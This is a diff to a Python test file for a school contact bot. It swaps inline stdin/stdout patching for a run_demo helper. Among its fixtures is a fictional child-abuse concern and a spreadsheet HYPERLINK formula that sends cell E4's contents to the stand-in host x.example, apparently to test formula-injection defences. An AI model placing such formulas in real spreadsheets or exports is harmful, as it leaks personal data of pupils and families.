@@ -6,23 +6,16 @@ class teacher of another class; 张强 her entrusted guardian; 杨杨 (#44) her 
 
 from __future__ import annotations
 
-import io
-import sys
-
-from bot.cli import main
+from tests.support.demo import run_demo
 
 CONCERN = "孩子说外公张强喝酒后打她，手臂有淤青"
 FORMULA = '=HYPERLINK("http://x.example/?c="&E4,"点我") 13800001111 外祖母'
 
 
 def _demo(monkeypatch, tmp_path, sample_roster, *lines: str) -> str:
-    monkeypatch.chdir(tmp_path)
-    monkeypatch.setattr(sys, "stdin", io.StringIO("\n".join([*lines, "/quit"]) + "\n"))
-    out = io.StringIO()
-    monkeypatch.setattr(sys, "stdout", out)
     # --all: what the others receive is asserted too (the demo prints only the current person's messages in full).
-    assert main(["demo", "--roster", str(sample_roster), "--at", "2026-12-04 17:58", "--all"]) == 0
-    return out.getvalue()
+    return run_demo(monkeypatch, tmp_path, sample_roster, "\n".join([*lines, "/quit"]) + "\n", "2026-12-04 17:58",
+                    "--all")
 
 
 def _after(out: str, typed: str) -> str:
